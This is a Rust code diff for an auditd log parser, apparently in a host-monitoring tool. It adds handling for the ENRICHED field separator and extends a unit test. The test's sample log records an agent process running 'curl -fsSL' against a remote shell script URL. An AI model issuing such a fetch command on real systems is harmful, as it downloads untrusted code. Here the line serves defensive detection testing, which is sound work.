@@ -87,12 +87,15 @@ const MAX_ARGS: usize = 256;
 fn fields(rest: &[u8]) -> Vec<(&[u8], &[u8])> {
     let mut out = Vec::new();
     let mut i = 0;
+    // Fields are separated by spaces; auditd's ENRICHED format (Debian's
+    // default) adds its interpreted fields (`UID="agent"`) after a 0x1d.
+    let sep = |b: u8| b == b' ' || b == 0x1d;
     while i < rest.len() {
-        while i < rest.len() && rest[i] == b' ' {
+        while i < rest.len() && sep(rest[i]) {
             i += 1;
         }
         let start = i;
-        while i < rest.len() && rest[i] != b'=' && rest[i] != b' ' {
+        while i < rest.len() && rest[i] != b'=' && !sep(rest[i]) {
             i += 1;
         }
         if i >= rest.len() || rest[i] != b'=' {
@@ -111,12 +114,11 @@ fn fields(rest: &[u8]) -> Vec<(&[u8], &[u8])> {
             i += 1;
             out.push((key, value));
         } else {
-            while i < rest.len() && rest[i] != b' ' {
+            while i < rest.len() && !sep(rest[i]) {
                 i += 1;
             }
             out.push((key, &rest[vstart..i]));
         }
-        // An `\x1d` separates the kernel's fields from auditd's enrichment.
     }
     out
 }
@@ -408,7 +410,7 @@ mod tests {
     use super::*;
 
     const LOG: &str = concat!(
-        "type=SYSCALL msg=audit(1733400000.100:501): arch=c000003e syscall=59 success=yes exit=0 a0=55d0 a1=55d1 a2=55d2 a3=0 items=2 ppid=900 pid=901 auid=4294967295 uid=998 gid=998 euid=998 suid=998 fsuid=998 egid=998 sgid=998 fsgid=998 tty=(none) ses=4294967295 comm=\"curl\" exe=\"/usr/bin/curl\" key=\"hardkit-agent-exec\"\n",
+        "type=SYSCALL msg=audit(1733400000.100:501): arch=c000003e syscall=59 success=yes exit=0 a0=55d0 a1=55d1 a2=55d2 a3=0 items=2 ppid=900 pid=901 auid=4294967295 uid=998 gid=998 euid=998 suid=998 fsuid=998 egid=998 sgid=998 fsgid=998 tty=(none) ses=4294967295 comm=\"curl\" exe=\"/usr/bin/curl\" key=\"hardkit-agent-exec\"\x1dARCH=x86_64 SYSCALL=execve AUID=\"unset\" UID=\"agent\"\n",
         "type=EXECVE msg=audit(1733400000.100:501): argc=3 a0=\"curl\" a1=\"-fsSL\" a2=\"http://203.0.113.45/x.sh\"\n",
         "type=CWD msg=audit(1733400000.100:501): cwd=\"/var/lib/agent\"\n",
         "type=PROCTITLE msg=audit(1733400000.100:501): proctitle=6375726C\n",
@@ -429,6 +431,11 @@ mod tests {
     fn events_of_the_hardkit_keys() {
         let ev = read(LOG.as_bytes(), None).unwrap();
         assert_eq!(ev.execs.len(), 2);
+        // (the ENRICHED suffix of the first SYSCALL record changes nothing)
+        assert_eq!(
+            (ev.execs[0].uid, ev.execs[0].exe.as_str()),
+            (Some(998), "/usr/bin/curl")
+        );
         assert_eq!(
             ev.execs[0].argv,
             ["curl", "-fsSL", "http://203.0.113.45/x.sh"]
